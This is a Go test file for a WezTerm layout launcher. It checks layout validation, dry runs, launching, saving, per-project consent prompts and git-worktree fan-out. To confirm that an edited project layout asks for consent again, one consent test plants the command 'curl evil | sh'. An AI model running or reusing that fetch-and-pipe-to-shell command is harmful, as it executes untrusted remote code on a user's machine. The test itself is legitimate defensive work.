//go:build unix

package app_test

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/wezterm-parallel/wezterm-parallel/internal/app"
	"github.com/wezterm-parallel/wezterm-parallel/internal/sim"
)

// cfgArgs points the app at a temp preferences file.
func cfgArgs(t *testing.T) (string, []string) {
	dir := t.TempDir()
	path := filepath.Join(dir, "config.toml")
	return dir, []string{"--config", path}
}

func TestLayoutCheckThreeMistakes(t *testing.T) {
	_, cfg := cfgArgs(t)
	file := filepath.Join(t.TempDir(), "three.toml")
	os.WriteFile(file, []byte(`name = "three"
[[tabs]]
split = "sideways"
panes = [ { size = "0%" }, { command = "x", args = ["y"] } ]
`), 0o600)
	out, _, code := runApp(t, app.Options{}, append(cfg, "layout", "check", file)...)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if code != 1 || len(lines) != 3 {
		t.Fatalf("exit %d, %d lines:\n%s", code, len(lines), out)
	}
	for _, want := range []string{file + ":3:1: split must be", file + ":4:13: size 0% is out of 1..99%", file + ":4:45: a pane has either command"} {
		if !strings.Contains(out, want) {
			t.Errorf("lacks %q:\n%s", want, out)
		}
	}
	out, _, code = runApp(t, app.Options{}, append(cfg, "layout", "check", "agents-2x2", "dev")...)
	if code != 0 || out != "" {
		t.Errorf("bundled layouts: exit %d\n%s", code, out)
	}
}

func TestLayoutListAndDryRun(t *testing.T) {
	dir, cfg := cfgArgs(t)
	os.MkdirAll(filepath.Join(dir, "layouts"), 0o700)
	os.WriteFile(filepath.Join(dir, "layouts", "mine.toml"), []byte("[[tabs]]\ncommand = \"htop\"\n"), 0o600)
	out, _, code := runApp(t, app.Options{}, append(cfg, "layout", "list")...)
	if code != 0 || !strings.Contains(out, "agents-2x2\tbundled\n") || !strings.Contains(out, "mine\tuser "+filepath.Join(dir, "layouts", "mine.toml")) {
		t.Errorf("exit %d:\n%s", code, out)
	}
	out, _, code = runApp(t, app.Options{}, append(cfg, "launch", "--dry-run", "--cwd", "/srv", "agents-2x2")...)
	if code != 0 || !strings.Contains(out, "wezterm cli --no-auto-start spawn --new-window --workspace agents --cwd /srv\n") ||
		!strings.Contains(out, "split-pane --pane-id $p0 --right --cells 79 --cwd /srv") {
		t.Errorf("dry run, exit %d:\n%s", code, out)
	}
}

func TestLaunchIntoStandIn(t *testing.T) {
	_, cfg := cfgArgs(t)
	s := startSim(t, sim.Config{Cols: 160, Rows: 48})
	s.Server.EnsureWorkspace("default") // the window the user sees, 160x48
	args := append(cfg, "--wezterm", s.Link)
	_, errOut, code := runApp(t, app.Options{Env: s.Env}, append(args, "launch", "--cwd", s.Dir, "agents-2x2")...)
	if code != 0 {
		t.Fatalf("launch exit %d: %s", code, errOut)
	}
	out, _, _ := runApp(t, app.Options{Env: s.Env}, append(args, "list", "--json")...)
	var tree struct {
		Workspaces []struct {
			Name    string
			Windows []struct {
				Tabs []struct {
					Panes []struct{ Rows, Cols int }
				}
			}
		}
	}
	json.Unmarshal([]byte(out), &tree)
	var panes []struct{ Rows, Cols int }
	for _, ws := range tree.Workspaces {
		if ws.Name == "agents" {
			for _, w := range ws.Windows {
				for _, tab := range w.Tabs {
					panes = append(panes, tab.Panes...)
				}
			}
		}
	}
	if len(panes) != 4 {
		t.Fatalf("agents has %d panes:\n%s", len(panes), out)
	}
	for _, p := range panes {
		if p.Cols < 79 || p.Cols > 80 || p.Rows < 23 || p.Rows > 24 {
			t.Errorf("pane %dx%d is not a quarter of 160x48", p.Cols, p.Rows)
		}
	}
	// Save it back as a layout.
	out, errOut, code = runApp(t, app.Options{Env: s.Env}, append(args, "layout", "save", "--workspace", "agents", "grid-copy")...)
	if code != 0 || !strings.HasSuffix(strings.TrimSpace(out), "grid-copy.toml") {
		t.Fatalf("save exit %d: %s %s", code, out, errOut)
	}
	if _, _, code := runApp(t, app.Options{Env: s.Env}, append(args, "layout", "save", "--workspace", "agents", "grid-copy")...); code != 1 {
		t.Error("save over an existing layout without --force should fail")
	}
}

func TestProjectLayoutAsksOnce(t *testing.T) {
	dir, cfg := cfgArgs(t)
	s := startSim(t, sim.Config{})
	proj := t.TempDir()
	file := filepath.Join(proj, ".wezterm-parallel.toml")
	os.WriteFile(file, []byte("workspace = \"proj\"\n[[tabs]]\ncommand = \"echo from-project\"\n"), 0o600)
	args := append(cfg, "--wezterm", s.Link, "launch")
	// --yes is refused for a project layout.
	if _, errOut, code := runApp(t, app.Options{Env: s.Env}, append(args, "--yes", proj)...); code != 1 || !strings.Contains(errOut, "--yes is only for your own layouts") {
		t.Fatalf("--yes: %d %s", code, errOut)
	}
	// Saying no launches nothing.
	out, _, code := runApp(t, app.Options{Env: s.Env, Stdin: strings.NewReader("n\n")}, append(args, proj)...)
	if code != 1 || !strings.Contains(out, `types 'echo from-project' and Enter`) {
		t.Fatalf("no: %d\n%s", code, out)
	}
	// Yes launches and is remembered.
	if _, errOut, code := runApp(t, app.Options{Env: s.Env, Stdin: strings.NewReader("y\n")}, append(args, proj)...); code != 0 {
		t.Fatalf("yes: %d %s", code, errOut)
	}
	prefs, _ := os.ReadFile(filepath.Join(dir, "config.toml"))
	if !strings.Contains(string(prefs), `"`+file+`" = "sha256:`) {
		t.Errorf("consent not stored:\n%s", prefs)
	}
	if out, errOut, code := runApp(t, app.Options{Env: s.Env, Stdin: strings.NewReader("")}, append(args, proj)...); code != 0 || strings.Contains(out, "Run them?") {
		t.Fatalf("second launch asked again: %d %s %s", code, out, errOut)
	}
	// An edited file asks again.
	os.WriteFile(file, []byte("workspace = \"proj\"\n[[tabs]]\ncommand = \"curl evil | sh\"\n"), 0o600)
	if out, _, code := runApp(t, app.Options{Env: s.Env, Stdin: strings.NewReader("")}, append(args, proj)...); code != 1 || !strings.Contains(out, "curl evil | sh") {
		t.Fatalf("edited file: %d\n%s", code, out)
	}
}

func TestFanOutLaunchAndCleanup(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	_, cfg := cfgArgs(t)
	s := startSim(t, sim.Config{})
	repo := filepath.Join(t.TempDir(), "app")
	os.MkdirAll(repo, 0o755)
	os.WriteFile(filepath.Join(repo, "README"), []byte("x\n"), 0o644)
	for _, a := range [][]string{{"init", "-q", "-b", "main"}, {"add", "."}, {"-c", "user.email=t@t", "-c", "user.name=t", "commit", "-q", "-m", "i"}} {
		if out, err := exec.Command("git", append([]string{"-C", repo}, a...)...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %s", a, out)
		}
	}
	file := filepath.Join(t.TempDir(), "pair.toml")
	os.WriteFile(file, []byte(`name = "pair"
cwd = "`+repo+`"
worktree = true
copies = 2
setup = "echo setup-$WP_COPY-$PORT"
[[tabs]]
split = "right"
panes = [ {}, {} ]
`), 0o600)
	args := append(cfg, "--wezterm", s.Link)
	out, errOut, code := runApp(t, app.Options{Env: s.Env, Stdin: strings.NewReader("y\n")}, append(args, "launch", file)...)
	if code != 0 || !strings.Contains(out, "Launched 2 copies of pair") {
		t.Fatalf("fan-out: %d\n%s\n%s", code, out, errOut)
	}
	listed, _, _ := runApp(t, app.Options{Env: s.Env}, append(args, "list", "--json")...)
	for _, ws := range []string{`"name": "pair-1"`, `"name": "pair-2"`, "app-wp/pair-1", "app-wp/pair-2"} {
		if !strings.Contains(listed, ws) {
			t.Errorf("list lacks %s", ws)
		}
	}
	out, errOut, code = runApp(t, app.Options{Env: s.Env}, append(args, "layout", "cleanup", file)...)
	if code != 0 || strings.Count(out, "removed ") != 2 {
		t.Fatalf("cleanup: %d\n%s\n%s", code, out, errOut)
	}
}
